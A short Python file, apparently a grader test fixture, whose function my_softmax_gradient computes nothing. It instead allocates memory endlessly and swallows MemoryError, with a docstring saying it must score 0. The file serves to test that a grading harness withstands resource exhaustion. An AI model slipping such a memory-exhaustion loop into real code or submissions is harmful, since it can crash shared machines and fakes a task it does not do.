"""Takes memory without end; must get 0."""


def my_softmax_gradient(z, y):
    taken = []
    while True:
        try:
            taken.append(bytearray(50_000_000))
        except MemoryError:
            continue
